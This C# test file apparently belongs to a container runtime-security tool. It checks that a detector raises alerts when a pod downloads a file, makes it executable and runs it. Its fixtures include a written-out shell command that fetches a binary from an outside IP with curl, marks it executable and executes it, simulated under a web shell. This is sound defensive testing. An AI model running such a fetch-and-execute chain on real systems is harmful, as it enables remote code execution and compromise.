using Vigil.Contracts.Events.V1;
using Vigil.Grains.Entities;
using Vigil.Grains.Entities.Detectors;

namespace Vigil.Grains.Tests.Entities.Detectors;

public sealed class DownloadChmodExecTests
{
    private static readonly Process Shell = PodEvents.Proc(300, 100, "/bin/sh", "-c", "curl -o /tmp/x http://203.0.113.9/x; chmod +x /tmp/x; /tmp/x");
    private static readonly Process Curl = PodEvents.Proc(301, 300, "/usr/bin/curl", "-o", "/tmp/x", "http://203.0.113.9/x");
    private static readonly Process ChmodTool = PodEvents.Proc(302, 300, "/bin/chmod", "+x", "/tmp/x");
    private static readonly Process Dropped = PodEvents.Proc(303, 300, "/tmp/x");

    [Fact]
    public async Task A_download_made_executable_and_run_raises_one_high_alert_with_the_three_steps_as_evidence()
    {
        await using var silo = await DetectionSilo.StartAsync();
        var pod = new PodEvents(silo.Clock, pod: "worker-5c8d7-abcde", container: "worker", image: "registry.example/shop/worker:1.4");

        await silo.Pod(pod).ObserveAsync(
        [
            pod.Exec(WebShell.Nginx),
            pod.Exec(Shell, WebShell.Nginx),
            pod.Exec(Curl, Shell, WebShell.Nginx),
            pod.Connect(Curl, "203.0.113.9", 80),
            pod.File(Curl, FileOperation.Create, "/tmp/x"),
            pod.File(Curl, FileOperation.Write, "/tmp/x"),
            pod.Exec(ChmodTool, Shell, WebShell.Nginx),
            pod.Chmod(ChmodTool, "/tmp/x", 0b111_101_101),
            pod.Exec(Dropped, Shell, WebShell.Nginx),
        ]);

        var alert = Assert.Single(await silo.AlertsAsync(pod, DownloadChmodExecDetector.RuleId));
        Assert.Equal("Suspicious download and execution chain detected", alert.Title);
        Assert.Equal(Severity.High, alert.Severity);
        Assert.Equal(("TA0011", "T1105"), (alert.Tactic, alert.Technique));
        Assert.Equal(1, alert.Count);
        Assert.Equal(["create", "exec", "exec"], alert.Evidence.Select(e => e.EventType));
        Assert.Equal(["/usr/bin/curl", "/bin/chmod", "/tmp/x"], alert.Evidence.Select(e => e.Process.Binary));
        // The write event came without ancestry; the pod's tree filled it in.
        Assert.Equal(["/bin/sh", "/usr/sbin/nginx"], alert.Evidence[0].Ancestors.Select(a => a.Binary));
        Assert.Contains("after it connected to 203.0.113.9:80", alert.Evidence[0].Output, StringComparison.Ordinal);
        Assert.Contains("made executable (+x /tmp/x)", alert.Evidence[1].Output, StringComparison.Ordinal);
        Assert.Contains("/tmp/x was downloaded, made executable and run", alert.Evidence[2].Output, StringComparison.Ordinal);
        // Running the written file is binary drift as well.
        Assert.Single(await silo.AlertsAsync(pod, BinaryDrift.RuleId));
    }

    [Fact]
    public async Task A_python_download_through_urllib_and_a_chmod_call_complete_the_chain_in_later_batches()
    {
        await using var silo = await DetectionSilo.StartAsync();
        var pod = new PodEvents(silo.Clock, pod: "api-1", container: "api", image: "python:3.12");
        var python = PodEvents.Proc(400, 1, "/usr/local/bin/python3.12", "/app/main.py");
        var payload = PodEvents.Proc(401, 400, "/var/tmp/.cache/agent");

        await silo.Pod(pod).ObserveAsync([pod.Exec(python), pod.Connect(python, "198.51.100.20", 443)]);
        silo.Clock.Advance(TimeSpan.FromSeconds(20));
        await silo.Pod(pod).ObserveAsync([pod.File(python, FileOperation.Create, "/var/tmp/.cache/agent")]);
        silo.Clock.Advance(TimeSpan.FromSeconds(20));
        await silo.Pod(pod).ObserveAsync([pod.Chmod(python, "/var/tmp/.cache/agent", 0b111_000_000)]);
        silo.Clock.Advance(TimeSpan.FromSeconds(20));
        await silo.Pod(pod).ObserveAsync([pod.Exec(payload, python)]);

        var alert = Assert.Single(await silo.AlertsAsync(pod, DownloadChmodExecDetector.RuleId));
        Assert.Equal(["create", "chmod", "exec"], alert.Evidence.Select(e => e.EventType));
        Assert.Contains("mode 700", alert.Evidence[1].Output, StringComparison.Ordinal);
        Assert.Contains("within 40 s", alert.Evidence[2].Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Without_a_chmod_outside_the_window_or_from_an_in_cluster_fetch_there_is_no_chain()
    {
        await using var silo = await DetectionSilo.StartAsync();
        var pod = new PodEvents(silo.Clock, pod: "worker-2", container: "worker", image: "registry.example/shop/worker:1.4");
        var app = PodEvents.Proc(500, 1, "/app/server");
        var helper = PodEvents.Proc(501, 500, "/tmp/helper");
        var late = PodEvents.Proc(502, 500, "/tmp/late");
        var cached = PodEvents.Proc(503, 500, "/tmp/cached");

        await silo.Pod(pod).ObserveAsync(
        [
            pod.Exec(app),
            // Written by curl but never made executable.
            pod.File(Curl, FileOperation.Create, "/tmp/helper"),
            pod.Exec(helper, app),
            // Made executable, but run after the window.
            pod.File(Curl, FileOperation.Create, "/tmp/late"),
            pod.Chmod(Curl, "/tmp/late", 0b111_101_101),
            // Fetched by the app from an in-cluster cache: no download tool, no connection outside.
            pod.Connect(app, "10.96.4.2", 8080),
            pod.File(app, FileOperation.Create, "/tmp/cached"),
            pod.Chmod(app, "/tmp/cached", 0b111_101_101),
            pod.Exec(cached, app),
        ]);
        silo.Clock.Advance(TimeSpan.FromMinutes(5));
        await silo.Pod(pod).ObserveAsync([pod.Exec(late, app)]);

        Assert.Empty(await silo.AlertsAsync(pod, DownloadChmodExecDetector.RuleId));
        // Each of them is still drift.
        Assert.Equal(3, Assert.Single(await silo.AlertsAsync(pod, BinaryDrift.RuleId)).Count);
    }

    [Fact]
    public async Task A_build_workload_fetching_and_running_a_tool_is_informational()
    {
        var options = new DetectorOptions { BuildNamespaces = ["ci"] };
        await using var silo = await DetectionSilo.StartAsync(detectors: options);
        var build = new PodEvents(silo.Clock, pod: "build-42", container: "step", image: "alpine:3.20", podNamespace: "ci");
        var web = new PodEvents(silo.Clock, pod: "web-1", container: "nginx", image: "nginx:1.25", podNamespace: "shop");

        foreach (var pod in new[] { build, web })
        {
            await silo.Pod(pod).ObserveAsync(
            [
                pod.Exec(Shell),
                pod.Exec(Curl, Shell),
                pod.File(Curl, FileOperation.Create, "/tmp/x"),
                pod.Exec(ChmodTool, Shell),
                pod.Exec(Dropped, Shell),
            ]);
        }

        var routine = (await silo.Pod(build).GetAlertsAsync(null)).Where(a => a.RuleId.StartsWith("vigil.runtime.binary-drift", StringComparison.Ordinal)
            || a.RuleId == DownloadChmodExecDetector.RuleId).ToList();
        Assert.Equal([BinaryDrift.RuleId, DownloadChmodExecDetector.RuleId], routine.Select(a => a.RuleId).Order(StringComparer.Ordinal));
        Assert.All(routine, a => Assert.Equal(Severity.Informational, a.Severity));
        Assert.Equal(Severity.High, Assert.Single(await silo.AlertsAsync(web, DownloadChmodExecDetector.RuleId)).Severity);
    }

    [Fact]
    public async Task A_download_recorded_before_a_restart_completes_its_chain_after_it()
    {
        var first = await DetectionSilo.StartAsync();
        var pod = new PodEvents(first.Clock, pod: "worker-3", container: "worker", image: "registry.example/shop/worker:1.4");
        await first.Pod(pod).ObserveAsync([pod.Exec(Shell), pod.File(Curl, FileOperation.Create, "/tmp/x"), pod.Exec(ChmodTool, Shell)]);
        await first.DisposeAsync();

        await using var second = await DetectionSilo.StartAsync(storage: first.Storage, clock: first.Clock);
        await second.Pod(pod).ObserveAsync([pod.Exec(Dropped, Shell)]);

        Assert.Equal(3, Assert.Single(await second.AlertsAsync(pod, DownloadChmodExecDetector.RuleId)).Evidence.Count);
    }
}
